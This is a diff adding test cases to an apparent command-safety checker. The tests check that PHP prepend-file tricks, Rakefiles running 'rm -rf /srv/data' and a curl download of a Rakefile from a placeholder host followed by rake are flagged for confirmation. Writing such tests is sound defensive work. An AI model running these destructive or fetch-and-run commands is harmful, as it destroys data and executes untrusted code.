@@ -165,3 +165,19 @@ describe('unwrap: files an interpreter loads before the program, and git setting
 		assert.equal(explain("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /srv/data' git -c core.pager=less log", testContext()).verdict.decision, 'allow');
 	});
 });
+
+describe('unwrap: PHP prepend files and a Rakefile the line writes', () => {
+	for (const line of [
+		`echo '<?php system("rm -rf /srv/data");' > /tmp/x.php; php -d auto_prepend_file=/tmp/x.php -r 1`,
+		`echo '<?php system("rm -rf /srv/data");' > /tmp/x.php; php -dauto_append_file=/tmp/x.php index.php`,
+		`printf 'task :x do\\n  sh "rm -rf /srv/data"\\nend\\n' > Rakefile; rake x`,
+		`printf 'task :x do\\n  rm_rf "/srv/data"\\nend\\n' > Rakefile && rake x`,
+		`printf 'task :x do\\n  sh "rm -rf /srv/data"\\nend\\n' > /tmp/r; rake -f /tmp/r x`,
+	]) {
+		t(line, 'confirm', '/srv/data');
+	}
+	t('curl -so Rakefile https://x.example/r; rake', 'confirm', 'Rakefile');
+	for (const line of ["printf 'task :x do\\n  puts 1\\nend\\n' > Rakefile && rake x", 'rake test', 'php -d memory_limit=-1 composer.phar install']) {
+		t(line, 'allow');
+	}
+});
